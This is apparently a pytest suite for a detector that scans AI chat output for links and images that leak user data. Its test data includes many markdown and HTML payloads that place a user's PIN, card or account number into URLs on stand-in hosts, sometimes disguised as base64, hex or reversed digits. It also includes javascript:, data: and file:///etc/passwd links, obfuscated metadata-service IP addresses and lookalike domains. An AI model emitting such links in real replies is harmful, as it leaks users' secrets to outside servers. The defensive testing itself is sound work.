from urllib.parse import quote

import pytest
from answer_judging import judged, rules_of
from hypothesis import given
from hypothesis import strategies as st

from hauberk.assets.chat import Context
from hauberk.detect.output.hosts import is_inside, is_lookalike, is_metadata, literal
from hauberk.detect.output.links import MAX_LINKS, address_of, links

SECRET = "my pin is 4711 and the card is 6222021234567890"
USER = Context(user=(SECRET,))
URL = f"https://a.example/p?d={quote(SECRET)}"

FETCHED = {
    "markdown": f"![x]({URL})",
    "angle": f"![x](<{URL}>)",
    "title": f'![x]({URL} "a title")',
    "reference": f"![x][r]\n\n[r]: {URL}",
    "shortcut": f"![r]\n\n[r]: {URL}",
    "linked image": f"[![x]({URL})](https://ok.example)",
    "img": f'<img alt=x src="{URL}">',
    "unquoted": f"<img src={URL}>",
    "unclosed": f'<img src="{URL}',
    "srcset": f'<img srcset="{URL} 2x">',
    "iframe": f"<IFRAME SRC='{URL}'></IFRAME>",
    "style": f'<p style="background: url({URL})">',
    "css": f"<style>@import '{URL}';</style>",
    "stylesheet": f'<link rel=stylesheet href="{URL}">',
    "svg": f'<svg><image xlink:href="{URL}"/></svg>',
    "refresh": f'<meta http-equiv=refresh content="0; url={URL}">',
    "no scheme": f"![x]({URL.removeprefix('https:')})",
}


@pytest.mark.parametrize("text", FETCHED.values(), ids=FETCHED)
def test_what_is_fetched_may_not_carry_the_conversation(text: str) -> None:
    assert "output-image-exfiltration" in rules_of(f"Here it is:\n\n{text}\n", USER)


def test_in_the_path_and_the_host() -> None:
    assert "output-image-exfiltration" in rules_of("![x](https://a.example/6222021234567890/a.png)", USER)
    assert "output-image-exfiltration" in rules_of("![x](https://6222021234567890.a.example/a.png)", USER)


ORDINARY = [
    "[docs](https://docs.python.org/3/library/re.html#re.Pattern.search) and https://github.com/a/b/blob/main/README.md#usage",
    "![build](https://github.com/a/b/actions/workflows/ci.yml/badge.svg?branch=main)",
    "![cat](https://upload.wikimedia.org/wikipedia/commons/thumb/3/3a/Cat03.jpg/1200px-Cat03.jpg)",
    "![](https://cdn.example.com/assets/9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08.png)",
    "![](https://b.s3.amazonaws.com/k.png?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Signature=5d672d79c15b13162d9279b0855cfba6789a8edb4c82c400)",
    "[video](https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s)",
    "[map](https://www.google.com/maps/place/Beijing/@39.9,116.3,10z)",
    "[百度](https://www.baidu.com/s?wd=天气) 与 [知乎](https://www.zhihu.com/question/19551997)",
    "Open http://localhost:8080/admin or http://127.0.0.1:3000 in your browser.",
    "访问 http://192.168.1.1 登录路由器管理页面。",
    "Mail [me](mailto:me@example.org?subject=Hi%20there) or ring [us](tel:+15551234).",
    "See [section 2](#install) and [the licence](LICENSE).",
    "data: the ratio is 3:1, e.g. javascript: is a scheme.",
    '```html\n<a href="javascript:alert(1)">x</a>\n```',
]


@pytest.mark.parametrize("text", ORDINARY)
def test_ordinary_links_are_quiet(text: str) -> None:
    assert rules_of(text, Context(user=("How do I set this up? What is the weather?",))) == set()


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\tscript:alert(1)",
        "\x01javascript:alert(1)",
        "javascript&colon;alert(1)",
        "&#106;avascript:alert(1)",
        "vbscript:msgbox(1)",
        "data:text/html,<script>alert(1)</script>",
        "file:///etc/passwd",
        "ms-msdt:/id",
    ],
)
def test_schemes_that_run(url: str) -> None:
    assert "output-link-script" in rules_of(f'<a href="{url}">go</a>')


@pytest.mark.parametrize(
    ("host", "address", "disguised"),
    [
        ("127.0.0.1", "127.0.0.1", False),
        ("2130706433", "127.0.0.1", True),
        ("0x7f.1", "127.0.0.1", True),
        ("0177.0.0.01", "127.0.0.1", True),
        ("127.1", "127.0.0.1", True),
        ("[::1]", "::1", False),
        ("[::ffff:10.0.0.1]", "10.0.0.1", True),
        ("0xA9FEA9FE", "169.254.169.254", True),
        ("example.com", "", False),
        ("1.2.3.4.5", "", False),
        ("256.1.1.1", "", False),
        ("99999999999", "", False),
    ],
)
def test_numbers_are_read_as_browsers_read_them(host: str, address: str, *, disguised: bool) -> None:
    assert literal(host) == (address, disguised)


def test_hosts() -> None:
    assert is_metadata("169.254.169.254")
    assert is_metadata("2852039166")
    assert is_metadata("metadata.google.internal.")
    assert is_inside("10.1.2.3")
    assert is_inside("db.internal")
    assert not is_inside("8.8.8.8")
    assert is_lookalike("аррӏе.com")
    assert is_lookalike("gооgle.com")
    assert not is_lookalike("中文.com")
    assert not is_lookalike("правда.рф")


@pytest.mark.parametrize(
    ("url", "host", "user"),
    [
        ("https://a.example:8080/x", "a.example", ""),
        ("https://good.example@evil.example/", "evil.example", "good.example"),
        ("https:\\\\evil.example\\x", "evil.example", ""),
        ("https:/evil.example", "evil.example", ""),
        ("//evil.example/x", "evil.example", ""),
        ("HTTPS://EVIL.example", "evil.example", ""),
        ("http://[::1]:80/", "[::1]", ""),
    ],
)
def test_addresses_are_read_as_browsers_read_them(url: str, host: str, user: str) -> None:
    address = address_of(url)
    assert address is not None
    assert (address.host, address.user) == (host, user)


@given(st.text(alphabet="![]()<>\"'=: \n/\\#?%&;aihref.comjavscript\u4e2d", max_size=300))
def test_any_text_is_read(text: str) -> None:
    for link in links(text):
        assert 0 <= link.start <= link.end <= len(text)
        address_of(link.url)
    judged(text, USER)


@given(st.text(max_size=100))
def test_any_address_is_read(url: str) -> None:
    address = address_of(url)
    if address is not None:
        is_lookalike(address.host)
        is_inside(address.host)


def test_links_past_the_bound_leave_a_gap() -> None:
    items = judged("![](https://a.example/x) " * (MAX_LINKS + 5))
    assert any("links" in getattr(item, "note", "") for item in items)


ACCOUNT = Context(user=("My account number is 8837261945.",))
SMUGGLED = {
    "base64 of digits": "?d=ODgzNzI2MTk0NQ==",
    "base64 twice": "?d=T0Rnek56STJNVGswTlE9PQ==",
    "base32": "?d=HA4DGNZSGYYTSNBV",
    "hexadecimal of digits": "?d=38383337323631393435",
    "grouped": "?d=8837-2619-45",
    "backwards": "?d=5491627388",
    "beside letters": "?d=acc8837261945x",
    "over several names": "?a=8837&b=2619&c=45",
    "fragment": "#8837261945",
}


@pytest.mark.parametrize("rest", SMUGGLED.values(), ids=SMUGGLED)
def test_a_number_is_recognised_however_it_is_written(rest: str) -> None:
    assert "output-image-exfiltration" in rules_of(f"![x](https://a.example/p{rest})", ACCOUNT)
    assert "output-link-exfiltration" in rules_of(f"[more](https://a.example/p{rest})", ACCOUNT)


def test_a_short_label_of_a_host_carries_too() -> None:
    assert "output-image-exfiltration" in rules_of("![x](https://8837261945.a.example/p.png)", ACCOUNT)
    spoken = Context(user=("Use https://d8837261945x.cloud.example/one.png",))
    assert not rules_of("![x](https://d8837261945x.cloud.example/two.png)", spoken)


PLACES = {
    "spaces in brackets": "![x](<https://a.example/p?d=my account 8837261945>)",
    "brackets in the label": "![a[b]c](https://a.example/p?d=8837261945)",
    "lines in the label": "![a\nb](https://a.example/p?d=8837261945)",
    "definition in a quotation": "![x]\n\n> [x]: https://a.example/p?d=8837261945",
    "definition in a list": "![x]\n\n- item\n\n    [x]: https://a.example/p?d=8837261945",
    "definition over two lines": "![x]\n\n[x]:\nhttps://a.example/p?d=8837261945",
    "srcset": '<img srcset="https://a.example/p?d=8837261945 2x">',
}


@pytest.mark.parametrize("text", PLACES.values(), ids=PLACES)
def test_an_image_is_found_wherever_markdown_lets_it_stand(text: str) -> None:
    assert "output-image-exfiltration" in rules_of(text, ACCOUNT)


def test_an_address_ends_where_its_link_does() -> None:
    found = links("[![x](https://a.example/p?d=1)](https://ok.example) and [y](https://a.example/w_(f)).")
    assert [link.url for link in found] == ["https://a.example/p?d=1", "https://ok.example", "https://a.example/w_(f)"]


def test_a_number_in_the_path_of_a_link_is_where_the_user_wanted_to_go() -> None:
    assert not rules_of("[your order](https://shop.example/orders/8837261945)", ACCOUNT)
